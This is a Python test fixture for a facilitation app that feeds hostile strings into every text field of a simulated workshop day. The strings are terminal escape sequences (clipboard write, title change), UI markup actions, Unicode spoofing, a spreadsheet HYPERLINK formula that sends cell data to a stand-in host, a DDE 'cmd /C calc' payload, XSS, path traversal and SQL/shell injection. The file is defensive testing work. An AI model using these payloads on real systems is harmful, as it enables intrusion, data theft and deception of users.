"""Texts that a terminal, a screen or a table could take for more than text, by kind."""

from facilitator.core import commands as c

ESC, BELL = "\x1b", "\x07"

TITLE = "TAKEN-TITLE"
CLIPBOARD = "dGFrZW4tY2xpcA=="

MARKUP = {
    "action": "[@click=app.quit]tryck här[/]",
    "action after a space": "[ @click=app.quit]tryck här",
    "action after a colour": "[$error @click=app.quit]tryck här",
    "action after a share": "[40% @click=app.quit]tryck här",
    "action with a bracket": "[@click=app.quit('[')]tryck här[/]",
    "action of a screen": "[@click=screen.dismiss]bort[/]",
    "closing tag": "tack [/] och hej",
    "closing tag of nothing": "slut [/ingenting] här",
    "tag with keys": "[_x=1 @y]allt",
    "open tag": "en öppen [/",
    "hidden": "[$foreground]dold[/] [hidden]mer",
    "colour": "[white on red]LARM[/]",
    "hyperlink": "[link='https://not.example']sida[/link]",
    "list": '{"a": [true, null]}',
    "backslashes": "\\[bold] slut\\",
    "gaps for values": "{t.house} {0} %(n)s ${x}",
}
"""Markup of the screens: some of it would act, some of it ends a program that reads it."""

SEQUENCES = {
    "window title": f"hej {ESC}]0;{TITLE}{BELL}",
    "window title, closed otherwise": f"{ESC}]2;{TITLE}{ESC}\\då",
    "clipboard": f"kopia {ESC}]52;c;{CLIPBOARD}{BELL}",
    "hyperlink of a terminal": f"{ESC}]8;;https://not.example{BELL}länk{ESC}]8;;{BELL}",
    "empty screen": f"borta{ESC}[2J{ESC}[HANNAT",
    "question to the terminal": f"svara {ESC}[c{ESC}[6n",
    "back to the start": f"{ESC}cOMSTART",
    "left open": f"öppet {ESC}]0;",
    "for tmux": f"{ESC}Ptmux;{ESC}{ESC}]0;{TITLE}{BELL}{ESC}\\ genom",
    "other letters": "bokstäver\x0elqqk\x0f",
    "C1 colour": "röd\x9b31m nu",
    "C1 title": f"namn\x9d0;{TITLE}\x9c",
    "written over": "sant\rFALSKT",
    "rubbed out": "abc\x08\x08\x08xyz",
    "nothing and delete": "a\x00b\x7fc",
}
"""What a terminal obeys."""

LETTERS = {
    "turned round": "betala \u202e004 kr\u202c idag",
    "set apart": "\u2067bakvänt\u2069 rätt",
    "of no width": "ad\u200bmin\u2060 \ufeffslut",
    "hidden letters": "synligt\U000e0041\U000e0042",
    "half a letter": "halv\ud800a",
    "a heap of marks": "Z" + "\u0301\u0302" * 150 + " hög",
    "in pieces": "a\u030angstro\u0308m",
    "joined picture": "\U0001f468\u200d\U0001f469\u200d\U0001f467 familj \U0001f44d\U0001f3fd",
    "flag": "\U0001f1f8\U0001f1ea flagga",
    "two columns each": "漢字で書く",
    "from right to left": "مرحبا بكم",
    "other line ends": "ett\u2028två\u2029tre\x85fyra\x0bfem",
    "no letter": "a\uffffb\U0001ffff c",
    "of one's own": "egen\ue000 bokstav",
}
"""Letters that are not what they look like, or not as wide."""

CELLS = {
    "formula": '=HYPERLINK("https://not.example?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "page": "<script>bad()</script> <img src=x onerror=bad()>",
    "Markdown": "# Rubrik | **fet** ![x](https://not.example/p.png)",
    "path": "../../etc/passwd",
    "command": "'; DROP TABLE notes;-- $(reboot) `reboot`",
}
"""What other programs obey."""

SIZES = {
    "line ends in a title": "rad ett\n\nrad två\n",
    "tabulators": "a\tb\tc",
    "a long word": "lång" * 5000,
    "many line ends": "först" + "\n" * 5000 + "sist",
}
"""Too much of something."""

TEXTS = {**MARKUP, **SEQUENCES, **LETTERS, **CELLS, **SIZES}

CAFE = c.AddActivity(
    method="world_cafe",
    id="cafe",
    title=MARKUP["action"],
    intro=SEQUENCES["window title"],
    outro=MARKUP["open tag"],
    settings={"questions": [MARKUP["closing tag"], SEQUENCES["clipboard"]]},
)


def day(texts: list[str]) -> list[c.Do]:
    """A day in which everything that can be written is one of these texts."""
    done: list[c.Do] = [
        c.Set(title=texts[0], venue=texts[1], about=texts[2], intro=texts[0], outro=texts[1], date=texts[2]),
        c.Set(organisers=tuple(texts[:3])),
        CAFE,
        c.Start(activity="cafe"),
        c.Next(activity="cafe"),
    ]
    for number, text in enumerate(texts, 1):
        done += [
            c.AddActivity(method="break", title=text, intro=text, id=f"break{number}"),
            c.MakePlace(id=f"room{number}", kind="room", name=text),
            c.Form(id=f"g{number}", activity="cafe", kind="circle", name=text, place=f"room{number}"),
            c.Write(text=text, prompt="note", id=f"n{number}", place=f"room{number}", author=f"{text}."),
            c.MakeTheme(name=text, id=f"t{number}", activity="cafe", notes=(f"n{number}",), by=(f"{text}!",)),
            c.Write(text=text, prompt="note", id=f"loose{number}", group=f"g{number}"),
        ]
    return done
